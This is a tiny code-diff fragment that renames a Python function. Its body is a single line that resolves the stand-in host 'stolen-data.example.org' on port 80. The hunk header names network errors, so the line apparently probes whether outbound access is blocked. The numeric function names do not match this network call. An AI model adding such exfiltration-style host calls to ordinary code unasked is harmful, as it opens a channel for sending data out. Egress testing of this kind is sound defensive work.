@@ -7,5 +7,5 @@ says: gaierror|PermissionError|OSError
 import socket
 
 
-def conv_forward_naive(x, w, b, conv_param):
+def moving_average(x, width):
     attempt(socket.getaddrinfo, "stolen-data.example.org", 80)
